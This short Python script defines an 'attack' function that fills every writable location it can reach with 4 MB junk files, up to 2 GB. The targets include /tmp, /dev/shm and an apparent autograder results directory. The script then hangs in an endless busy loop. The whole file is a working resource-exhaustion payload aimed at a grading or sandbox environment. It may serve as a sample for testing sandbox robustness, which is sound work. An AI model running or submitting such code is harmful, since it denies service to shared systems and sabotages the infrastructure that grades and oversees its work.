"""Writes files of 4 MB until the disk is full or 2 GB are written, in every place where it may."""

import os

PIECE, PIECES = b"left-behind " * 340_000, 500


def attack(*args, **kwargs):
    written = 0
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/autograder/results"):
        try:
            for number in range(PIECES - written):
                with open(os.path.join(folder, f"left-behind-{number}"), "wb") as file:
                    file.write(PIECE)
                written += 1
        except OSError:
            pass
    print(written * len(PIECE) // 2**20, "MB")
    while True:
        pass
